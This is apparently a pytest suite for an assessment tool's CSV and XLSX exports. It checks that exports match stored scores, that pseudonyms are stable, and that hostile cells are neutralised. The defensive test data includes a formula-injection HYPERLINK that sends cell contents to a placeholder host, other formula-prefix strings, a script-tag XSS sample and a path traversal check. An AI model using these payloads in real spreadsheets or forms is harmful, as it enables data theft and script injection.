"""Exports: long and wide CSV and the workbook agree with the stored results; hostile cells are
neutralised; pseudonyms are stable and keyed."""

from __future__ import annotations

import csv
import io
import json
import os
import sys
import zipfile
from collections import defaultdict
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from assess.cli import cli
from assess.i18n import set_language
from assess.problems import ProblemsFound
from assess.reports.tables import pseudonym, response_cell
from assess.sheets.write import XLSX_MAX_TEXT, csv_text, neutralise, number_text
from assess.store.store import Result, Store
from assess.workspace import SECRET_BYTES, Workspace, now, secret
from assess.workspace.steps import score_phase
from tests.test_marks import ESSAY_A, ESSAY_B, essay_workspace

EVENT = "payakumbuh-2019"
TITLES = {"Tes awal": "pre", "Tes akhir": "post"}  # the example's phases as exports label them


def build_example(folder: Path, run, db: str | None = None) -> list[str]:
    """The worked example, simulated and scored; the options (-w, --db) that reach it."""
    assert run("init", "--example", EVENT, str(folder)).exit_code == 0
    options = ["-w", str(folder)] + (["--db", db] if db else [])
    assert run(*options, "participants", "import", str(folder / "peserta.csv")).exit_code == 0
    for phase in ("pre", "post"):
        assert run(*options, "form", "build", "--phase", phase).exit_code == 0
    assert run(*options, "simulate").exit_code == 0
    assert run(*options, "score").exit_code == 0
    return options


@pytest.fixture(scope="module")
def example(tmp_path_factory):
    """One scored example workspace (SQLite) shared by the tests that only read it."""
    runner = CliRunner()

    def run(*args):
        result = runner.invoke(cli, list(args), catch_exceptions=False)
        set_language(None)
        return result

    folder = tmp_path_factory.mktemp("export") / "pelatihan"
    return folder, build_example(folder, run)


REPORTED = ("T.01", "T.02", "T.03", "M.01", "M.05")  # the worked example's reporting.competencies


def read_csv(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def stored_results(folder: Path, db: str | None = None) -> list[Result]:
    store = Store.open(db or f"sqlite:///{folder / 'assess.db'}")
    try:
        return store.results(EVENT)
    finally:
        store.close()


# -- long and wide agree with the stored results ------------------------------------------------


def test_long_and_wide_agree_with_the_stored_results(tmp_path, run, database_url):
    db = None if database_url.startswith("sqlite") else database_url
    folder = tmp_path / "pelatihan"
    options = build_example(folder, run, db)
    long_file, wide_file = tmp_path / "long.csv", tmp_path / "wide.csv"
    result = run(*options, "export", "--format", "csv-long", "--out", str(long_file), "--lang", "en")
    assert result.exit_code == 0, result.output
    assert "3224 rows written" in result.stdout  # 52 people x 2 phases x 31 items
    result = run(*options, "export", "--format", "csv-wide", "--out", str(wide_file), "--lang", "en")
    assert result.exit_code == 0, result.output
    results = {(r.phase_id, r.person_id): r for r in stored_results(folder, db)}
    assert len(results) == 104

    long_rows = read_csv(long_file)
    sums: dict[tuple[str, str], float] = defaultdict(float)
    for row in long_rows:
        sums[(TITLES[row["Phase"]], row["Participant"])] += float(row["Points"])
        stored = results[(TITLES[row["Phase"]], row["Participant"])].items[row["Item"]]
        assert float(row["Points"]) == pytest.approx(stored.points, abs=1e-6)
        assert float(row["Max"]) == pytest.approx(stored.max_points, abs=1e-6)
        assert row["Blank"] == ("true" if stored.blank else "false")
        assert (row["Response"] == "") == stored.blank or row["Item type"] == "essay"
        if row["Response"]:
            json.loads(row["Response"])  # the response's JSON form
    assert set(sums) == set(results)
    for key, total in sums.items():
        assert max(total, 0.0) == pytest.approx(results[key].points, abs=1e-5)

    wide_rows = read_csv(wide_file)
    assert len(wide_rows) == len(results)
    for row in wide_rows:
        stored = results[(TITLES[row["Phase"]], row["Participant"])]
        assert float(row["Points"]) == pytest.approx(stored.points, abs=1e-5)
        assert float(row["Percentage"]) == pytest.approx(stored.percentage, abs=1e-5)
        assert row["Band"] == stored.band
        assert row["Passed"] == ("true" if stored.passed else "false")
        assert row["Provisional"] == "false"
        for item_id, score in stored.items.items():
            assert float(row[item_id]) == pytest.approx(score.points, abs=1e-5)
        items_here = [k for k in row if k.count("-") == 1 and k.split("-")[1].isdigit()]
        assert {k for k in items_here if row[k] != ""} == set(stored.items)  # other phase's items empty
        for competency, sub in stored.competencies.items():
            heads = [k for k in row if k.endswith(f"({competency}) %")]  # "Name (ID) %"
            if competency not in REPORTED:  # the event reports only these (reporting.competencies)
                assert heads == []
                continue
            if row[heads[0]].startswith("level "):  # only attitude items of levels 1-5: their median
                assert row[heads[0]] in {f"level {k}" for k in range(1, 6)}
                continue
            assert float(row[heads[0]]) == pytest.approx(sub.percentage, abs=1e-5)
        assert row["Name"] and (row["Email"] == "" or "@" in row["Email"])
    assert any(row["Email"] for row in wide_rows)


def test_one_phase_only(example, tmp_path, run):
    folder, options = example
    out = tmp_path / "pre.csv"
    assert run(*options, "export", "--phase", "pre", "--out", str(out)).exit_code == 0
    rows = read_csv(out)
    assert len(rows) == 52 and {r[next(iter(r))] for r in rows} == {"Tes awal"}  # the phase's title


def test_the_workbook_has_formatted_sheets(example, tmp_path, run):
    folder, options = example
    out = tmp_path / "hasil.xlsx"
    result = run(*options, "export", "--out", str(out), "--lang", "en")
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Participants", "Results", "Items"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(c.font.b for c in sheet[1] if c.value is not None)
        assert sheet.column_dimensions["A"].width >= 6 and sheet.auto_filter.ref.startswith("A1:")
    participants = book["Participants"]
    assert participants.max_row == 53
    nip = [c.value for c in participants[1]].index("NIP") + 1
    assert all(participants.cell(r, nip).data_type == "s" for r in range(2, 54))  # 18 digits kept as text
    assert len(str(participants.cell(2, nip).value)) == 18

    results = {(r.phase_id, r.person_id): r for r in stored_results(folder)}
    sheet = book["Results"]
    heads = [c.value for c in sheet[1]]
    assert sheet.max_row == 105
    for line in range(2, sheet.max_row + 1):
        phase, person = TITLES[sheet.cell(line, 1).value], sheet.cell(line, 2).value
        assert sheet.cell(line, heads.index("Points") + 1).value == pytest.approx(
            results[(phase, person)].points
        )
        assert isinstance(sheet.cell(line, heads.index("Passed") + 1).value, bool)

    items = book["Items"]
    heads = [c.value for c in items[1]]
    assert items.max_row == 63  # 31 items in each phase
    for line in range(2, items.max_row + 1):
        phase, item_id = TITLES[items.cell(line, 1).value], items.cell(line, 2).value
        scores = [r.items[item_id] for (p, _), r in results.items() if p == phase]
        expected = sum(s.points for s in scores) / len(scores) / scores[0].max_points
        assert items.cell(line, heads.index("Facility") + 1).value == pytest.approx(expected)
        assert items.cell(line, heads.index("Attempts") + 1).value == 52


# -- hostile cells ---------------------------------------------------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTab",
    "\rCR",
]
HTML = "<script>alert('x')</script><b>tebal</b> & &amp;"
LONG = "panjang " * 6000  # 48,000 characters: more than a spreadsheet cell holds


def hostile_workspace(tmp_path: Path, run) -> tuple[Path, list[str]]:
    """The essay workspace plus participants whose names and answers would run as formulas."""
    folder, options = essay_workspace(tmp_path, run, people=2)
    ws = Workspace(folder, f"sqlite:///{folder / 'assess.db'}")
    try:
        people = [
            {
                "person_id": f"P{90 + k:04d}",
                "name": name,
                "nip": None,
                "email": None,
                "position": "=1+2" if k == 0 else HTML,
                "unit_code": "u1",
                "group_code": None,
                "access_code": f"HOST{k}-XXXXX",
            }
            for k, name in enumerate(HOSTILE_NAMES)
        ]
        ws.store.add_participants(ws.event_id, people, {"u1": "@Unit"}, {})
        answers = [
            {ESSAY_A: "=1+1", ESSAY_B: HTML},
            {ESSAY_A: LONG, ESSAY_B: "-2+3"},
        ]
        records = [
            {"person_id": p["person_id"], "answers": answers[k % 2], "marks": {ESSAY_A: "r1"}}
            for k, p in enumerate(people)
        ]
        ws.store.import_attempts(ws.event_id, "pre", records, channel="import", now=now())
        score_phase(ws, "pre", now())
    finally:
        ws.close()
    return folder, options


def test_hostile_cells_are_neutralised_in_csv_and_text_in_xlsx(tmp_path, run):
    folder, options = hostile_workspace(tmp_path, run)
    wide, long_, book_file = tmp_path / "w.csv", tmp_path / "l.csv", tmp_path / "h.xlsx"
    marks_csv, marks_xlsx = tmp_path / "m.csv", tmp_path / "m.xlsx"
    for args in (
        ["export", "--format", "csv-wide", "--out", str(wide)],
        ["export", "--format", "csv-long", "--out", str(long_)],
        ["export", "--out", str(book_file)],
        ["marks", "export", "--phase", "pre", "--out", str(marks_csv)],
        ["marks", "export", "--phase", "pre", "--out", str(marks_xlsx)],
    ):
        result = run(*options, *args, "--lang", "en")
        assert result.exit_code == 0, result.output

    # CSV: a quote in front of every text cell that starts like a formula; nothing else changed.
    for path in (wide, long_, marks_csv):
        text = path.read_bytes().decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
        assert not [c for c in cells if c.startswith("-") and not number_like(c)]
    names = {r["Name"] for r in read_csv(wide)}
    assert {"'" + n for n in HOSTILE_NAMES} <= names
    assert {r["Position"] for r in read_csv(wide)} >= {"'=1+2", HTML}  # HTML is text, kept as it is
    assert {r["Unit"] for r in read_csv(wide)} >= {"'@Unit"}
    responses = {json.loads(r["Response"]) for r in read_csv(long_) if r["Response"]}
    assert {"=1+1", HTML, LONG, "-2+3"} <= responses  # as JSON text, which never runs
    answers = {r["Answer"] for r in read_csv(marks_csv)}
    assert {"'=1+1", "'-2+3", HTML, LONG} <= answers  # over-long text written whole in CSV

    # XLSX: string cells (never formulas), values exactly as stored, over-long text cut to fit.
    for path in (book_file, marks_xlsx):
        with zipfile.ZipFile(path) as z:
            sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
            assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    book = openpyxl.load_workbook(book_file)
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    found[cell.value] = cell.data_type
    assert {n.replace("\r", "\n") for n in HOSTILE_NAMES} <= set(found) and {"=1+2", HTML, "@Unit"} <= set(
        found
    )
    marks_book = openpyxl.load_workbook(marks_xlsx)
    sheet = marks_book.worksheets[0]
    answers = {}
    for line in range(2, sheet.max_row + 1):
        cell = sheet.cell(line, 4)
        assert cell.data_type == "s"
        answers[cell.value] = cell
    assert {"=1+1", "-2+3", HTML} <= set(answers)
    cut = [v for v in answers if v.startswith("panjang")]
    assert cut and all(len(v) == XLSX_MAX_TEXT and v.endswith("…") for v in cut)
    # The marks file read back as exported changes nothing, hostile cells and all.
    for path in (marks_csv, marks_xlsx):
        result = run(*options, "marks", "import", str(path), "--lang", "en")
        assert result.exit_code == 0, result.output
        assert "0 marks stored" in result.stdout


def number_like(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", " =1"),
        ("a=b", "a=b"),
        ("<b>x</b>", "<b>x</b>"),
        ("", ""),
    ],
)
def test_neutralise(value, shown):
    assert neutralise(value) == shown


def test_numbers_stay_numbers():
    assert [csv_text(v) for v in (-2, -0.25, 1.0, 2 / 3, True, None, float("nan"))] == [
        "-2",
        "-0.25",
        "1",
        "0.666667",
        "true",
        "",
        "",
    ]
    assert number_text(-0.0000001) == "0"
    assert (
        response_cell(-5) == -5
        and response_cell("-5") == '"-5"'
        and response_cell(["a", "c"]) == '["a", "c"]'
    )
    assert response_cell(True) == "true" and response_cell(None) is None


# -- pseudonyms ------------------------------------------------------------------------------------


def test_pseudonyms_are_stable_keyed_and_hide_names_nips_and_email(example, tmp_path, run):
    folder, options = example
    first, second, plain = tmp_path / "a.csv", tmp_path / "b.xlsx", tmp_path / "plain.csv"
    for out in (first, second):
        result = run(*options, "export", "--pseudonymise", "--out", str(out))
        assert result.exit_code == 0, result.output
    assert run(*options, "export", "--out", str(plain), "--lang", "en").exit_code == 0
    real = read_csv(plain)
    a = read_csv(first)
    sheet = openpyxl.load_workbook(second).worksheets[1]
    heads = [c.value for c in sheet[1]]
    b = [dict(zip(heads, [c.value for c in row], strict=True)) for row in sheet.iter_rows(min_row=2)]
    name, participant = heads[2], heads[1]
    assert "Email" not in a[0] and "Email" not in heads and "Surel" not in heads
    by_person_a = {r[participant]: (r[name], r["NIP"]) for r in a}
    by_person_b = {r[participant]: (r[name], r["NIP"]) for r in b}
    assert by_person_a == by_person_b  # the same participant, the same pseudonyms, in CSV and XLSX
    for r in real:
        pseudo_name, pseudo_nip = by_person_a[r["Participant"]]
        assert pseudo_name.startswith("peserta-") and pseudo_name != r["Name"]
        assert pseudo_nip.startswith("nip-") and pseudo_nip != r["NIP"]
    assert len({v for v, _ in by_person_a.values()}) == len(by_person_a)  # one pseudonym per person
    text = first.read_text(encoding="utf-8-sig")
    for r in real:
        assert r["Name"] not in text and r["NIP"] not in text
        assert not r["Email"] or r["Email"] not in text

    key = secret(Workspace(folder, ""), "pseudonym")
    assert by_person_a["P0001"][0] == pseudonym(key, "peserta", "P0001")
    other = bytes(SECRET_BYTES)
    assert pseudonym(other, "peserta", "P0001") != by_person_a["P0001"][0]  # keyed: another key, another name


def test_the_secret_is_made_once_and_kept_private(tmp_path):
    (tmp_path / "assessment.yaml").write_text("", encoding="utf-8")
    ws = Workspace(tmp_path, "")
    key = secret(ws, "pseudonym")
    assert len(key) == SECRET_BYTES and secret(ws, "pseudonym") == key
    assert secret(ws, "web") != key
    path = tmp_path / ".assess-secret-pseudonym"
    if sys.platform != "win32":
        assert path.stat().st_mode & 0o077 == 0
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    path.write_text("kerusakan\n", encoding="ascii")
    with pytest.raises(ProblemsFound) as caught:
        secret(ws, "pseudonym")
    assert caught.value.problems[0].code == "EXPORT-SECRET-DAMAGED"
    with pytest.raises(ValueError):
        secret(ws, "../etc")


# -- refused -----------------------------------------------------------------------------------------


def test_wrong_formats_and_places_are_refused_without_a_file(example, tmp_path, run):
    folder, options = example
    cases = [
        (["--format", "csv-long", "--out", str(tmp_path / "x.xlsx")], "EXPORT-FORMAT-MISMATCH"),
        (["--format", "xlsx", "--out", str(tmp_path / "x.csv")], "EXPORT-FORMAT-MISMATCH"),
        (["--out", str(tmp_path / "x.txt")], "EXPORT-OUT-SUFFIX"),
        (["--out", str(tmp_path / "no" / "such" / "x.csv")], "EXPORT-CANNOT-WRITE"),
        (["--phase", "nanti"], "WORKSPACE-NO-PHASE"),
    ]
    for args, code in cases:
        result = run(*options, "export", *args, "--lang", "en")
        assert result.exit_code == 2, (args, result.output)
        assert code in result.stderr and "Traceback" not in result.output
    assert os.listdir(tmp_path) == []


def test_labels_in_the_interfaces_language_a_gain_column_and_decimal_commas(example, tmp_path, run):
    folder, options = example
    book_path = tmp_path / "hasil.xlsx"
    assert run(*options, "export", "--out", str(book_path)).exit_code == 0  # Indonesian, the default
    book = openpyxl.load_workbook(book_path)
    people = book["Peserta"]
    heads = [c.value for c in people[1]]
    assert heads[-3:] == ["Tes awal %", "Tes akhir %", "Kenaikan, Tes awal ke Tes akhir (poin)"]
    for line in range(2, people.max_row + 1):
        pre, post, gain = (people.cell(line, len(heads) - k).value for k in (2, 1, 0))
        assert gain == pytest.approx(post - pre)
    items = book["Per soal"]
    types = {items.cell(line, 3).value for line in range(2, items.max_row + 1)}
    assert "pilihan tunggal" in types and "single_choice" not in types
    competencies = {items.cell(line, 5).value for line in range(2, items.max_row + 1)}
    assert "Pelayanan Publik (M.05)" in competencies
    results = book["Hasil"]
    points = [c for c in results[2] if isinstance(c.value, float)]
    assert points and all(c.number_format in ("0.00", "0.0") for c in points)  # never "0.##": "4."
    # A CSV for Indonesian-locale Excel: ; between fields, decimal commas.
    out = tmp_path / "hasil.csv"
    assert (
        run(*options, "export", "--format", "csv-wide", "--decimal-comma", "--out", str(out)).exit_code == 0
    )
    rows = read_csv(out, delimiter=";")
    assert len(rows) == 104 and "," in rows[0]["Persentase"] and "." not in rows[0]["Persentase"]
    stored = {(r.phase_id, r.person_id): r for r in stored_results(folder)}
    first = stored[(TITLES[rows[0]["Fase"]], rows[0]["Peserta"])]
    assert float(rows[0]["Persentase"].replace(",", ".")) == pytest.approx(first.percentage, abs=1e-5)
